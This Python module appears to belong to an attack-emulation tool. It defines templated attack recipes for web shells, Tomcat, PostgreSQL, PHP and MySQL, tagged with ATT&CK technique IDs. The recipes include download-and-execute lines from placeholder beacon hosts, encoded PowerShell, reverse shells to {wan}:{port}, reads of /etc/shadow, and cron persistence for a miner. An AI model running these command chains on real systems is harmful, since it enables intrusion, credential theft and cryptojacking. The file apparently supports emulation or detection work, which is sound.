"""Attacks on web and database daemons: web shells, Tomcat, PHP, PostgreSQL."""

from longtail.fleet.attack import Attack

RECIPES = (
    Attack("web-shell", ("iis",), ("T1505.003", "T1059.003", "T1082"), "a shell in a page: w3wp starts cmd", r"""
cmd: whoami
or
cmd: cd /d "{web}" & whoami & echo [S] & cd & echo [E]
or
cmd: whoami /priv

cmd: dir {web}
or
cmd: net user
or
cmd: ipconfig /all
or
cmd: type {web}\web.config

cmd: tasklist
or
cmd: systeminfo
or
cmd: nltest /domain_trusts
or
nothing

cmd: certutil -urlcache -split -f {url} {webdrop}\{tool}.exe & {webdrop}\{tool}.exe
or
cmd: powershell -nop -enc {longblob}
or
{webdrop}\{tool}.exe
or
cmd: curl -o {webdrop}\{tool}.aspx {url}
or
nothing
"""),
    Attack("web-shell-quiet", ("iis",), ("T1505.003",), "a single program dropped beside the site", r"""
{web}\bin\{tool}.exe
or
{webdrop}\{tool}.exe | @ {id}
or
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe | @ /out:{webdrop}\{tool}.exe {webdrop}\{tool}.cs

{webdrop}\{tool}.exe
or
cmd: appcmd list apppool /config
"""),
    Attack("tomcat-windows", ("tomcat",), ("T1190", "T1059.003", "T1105"), "a manager upload runs commands", r"""
cmd: whoami
or
cmd: hostname & whoami

cmd: certutil -urlcache -f {url} C:\Windows\Temp\{tool}.exe
or
cmd: powershell -nop -w hidden -enc {longblob}

nothing
or
C:\Windows\Temp\{tool}.exe
"""),
    Attack("java-shell", ("tomcat-linux",), ("T1190", "T1059.004", "T1496"), "curl into bash, then a miner", r"""
sh: curl -fsSL http://{beacon}/{rnd}.sh | bash
  /usr/bin/chmod | chmod +x {nixdrop}/{nixtool}
  {nixdrop}/{nixtool}
or
sh: (curl -s {beacon}/{rnd}||wget -q -O- {beacon}/{rnd})|sh
  {nixdrop}/{nixtool} | @ -B -o {beacon}
or
/usr/bin/bash | bash -c {echo,{blob}}|{base64,-d}|{bash,-i}

sh: crontab -l | grep -v {rnd} ; echo "*/10 * * * * {nixdrop}/{nixtool}" | crontab -
or
sh: pkill -9 -f xmrig
or
nothing

nothing
or
sh: id; uname -a
""", (1, 120)),
    Attack("postgres-program", ("postgres",), ("T1190", "T1059.004", "T1105"), "COPY … FROM PROGRAM", r"""
sh: id
or
sh: whoami
or
nothing

sh: curl -s http://{beacon}/{rnd} | sh
  {nixdrop}/{nixtool}
or
sh: wget -q {beacon}/{rnd} -O {nixdrop}/{nixtool}; chmod 777 {nixdrop}/{nixtool}; {nixdrop}/{nixtool}
or
sh: echo {blob} | base64 -d | bash
  /usr/bin/curl | curl {beacon}/{rnd2}.sh -o {nixdrop}/{rnd}
  {nixdrop}/{nixtool}

nothing
or
sh: pkill -f kdevtmpfsi; crontab -r
""", (1, 90)),
    Attack("php-shell", ("web-linux",), ("T1505.003", "T1059.004"), "commands through an uploaded page", r"""
sh: id
or
sh: uname -a; id; pwd
or
sh: cat /etc/passwd

sh: ls -la {web}/uploads
or
sh: find / -perm -4000 -type f
or
nothing
or
sh: ps aux

sh: wget http://{beacon}/{rnd} -O {nixdrop}/{nixtool} && chmod +x {nixdrop}/{nixtool}
  {nixdrop}/{nixtool}
or
sh: python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("{wan}",{port}));pty.spawn("sh")'
  /usr/bin/sh | sh
or
sh: bash -i >& /dev/tcp/{wan}/{port} 0>&1
or
sh: curl {beacon}/{rnd}.txt -o {web}/{rnd}.php
"""),
    Attack("mysql-library", ("mysql",), ("T1190", "T1059.004"), "a user-defined function runs commands", r"""
sh: id
or
sh: uname -a

sh: curl -s http://{beacon}/{rnd} | sh
  {nixdrop}/{nixtool}
or
sh: {nixdrop}/{nixtool} -d
or
sh: cat /etc/shadow
"""),
)  # fmt: skip
